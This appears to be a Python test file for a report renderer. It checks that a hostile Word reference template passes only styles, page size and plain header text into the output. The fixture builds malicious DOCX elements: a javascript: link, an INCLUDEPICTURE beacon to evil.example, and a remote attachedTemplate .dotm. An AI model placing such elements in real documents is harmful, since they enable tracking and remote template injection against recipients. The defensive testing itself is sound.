"""A hostile --reference-docx: only styles, page set-up and an inert header reach the output."""

from __future__ import annotations

import zipfile
from pathlib import Path

import docx
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.shared import Pt

from conftest import Run

EXAMPLE = "assessments/example-borough-council-2024-25.yaml"
ATTACHED_TEMPLATE = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
)
OUTPUT = "build/example-borough-council-2024-25/self-assessment.docx"


def _hostile_reference(folder: Path) -> Path:
    reference = docx.Document()
    reference.styles["Heading 1"].font.size = Pt(21)
    header = reference.sections[0].header
    header.paragraphs[0].text = "Northvale letterhead"
    _external_link(header.add_paragraph(), header.part, "javascript:alert(1)")
    field = OxmlElement("w:fldSimple")
    field.set(qn("w:instr"), 'INCLUDEPICTURE "https://evil.example/pixel.png" \\d')
    header.add_paragraph()._p.append(field)
    template = OxmlElement("w:attachedTemplate")
    template.set(
        qn("r:id"),
        reference.part._settings_part.relate_to(
            "https://evil.example/template.dotm", ATTACHED_TEMPLATE, is_external=True
        ),
    )
    reference.settings.element.append(template)
    untyped = OxmlElement("w:style")
    untyped.set(qn("w:styleId"), "Untyped")
    reference.styles.element.append(untyped)
    path = folder / "hostile.docx"
    reference.save(str(path))
    return path


def _external_link(paragraph: object, part: object, url: str) -> None:
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), part.relate_to(url, RT.HYPERLINK, is_external=True))  # type: ignore[attr-defined]
    run = OxmlElement("w:r")
    text = OxmlElement("w:t")
    text.text = "click"
    run.append(text)
    link.append(run)
    paragraph._p.append(link)  # type: ignore[attr-defined]


def _all_parts(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "\n".join(
            archive.read(name).decode("utf-8", "replace") for name in archive.namelist()
        )


def test_nothing_in_a_hostile_reference_points_outside(run: Run, project: Path) -> None:
    reference = _hostile_reference(project)
    assert "evil.example" in _all_parts(reference)
    result = run("render", "--format", "docx", "--reference-docx", str(reference), EXAMPLE)
    assert result.exit_code == 0, result.output
    everything = _all_parts(project / OUTPUT)
    for hostile in ("evil.example", "javascript:", "INCLUDEPICTURE", "attachedTemplate"):
        assert hostile not in everything
    rendered = docx.Document(str(project / OUTPUT))
    assert rendered.styles["Heading 1"].font.size == Pt(21)
    assert [p.text for p in rendered.sections[0].header.paragraphs] == [
        "Northvale letterhead",
        "click",
        "",  # the INCLUDEPICTURE field's paragraph, with the field left behind
    ]


def test_a_reference_without_page_set_up_keeps_the_default_page(run: Run, project: Path) -> None:
    reference = docx.Document()
    body = reference.element.body
    body.remove(body.find(qn("w:sectPr")))
    reference.save(str(project / "bare.docx"))
    result = run("render", "--format", "docx", "--reference-docx", "bare.docx", EXAMPLE)
    assert result.exit_code == 0, result.output
    section = docx.Document(str(project / OUTPUT)).sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == (297, 210)


def test_a_reference_page_set_up_is_taken_with_its_numbers_checked(run: Run, project: Path) -> None:
    reference = docx.Document()
    size = reference.sections[0]._sectPr.find(qn("w:pgSz"))
    size.set(qn("w:w"), "11906")
    size.set(qn("w:h"), "²" * 3)
    size.set(qn("w:orient"), "portrait")
    reference.save(str(project / "portrait.docx"))
    result = run("render", "--format", "docx", "--reference-docx", "portrait.docx", EXAMPLE)
    assert result.exit_code == 0, result.output
    written = docx.Document(str(project / OUTPUT)).sections[0]._sectPr.find(qn("w:pgSz"))
    assert (written.get(qn("w:w")), written.get(qn("w:orient"))) == ("11906", "portrait")
    assert written.get(qn("w:h")) == str(docx.shared.Mm(210).twips)
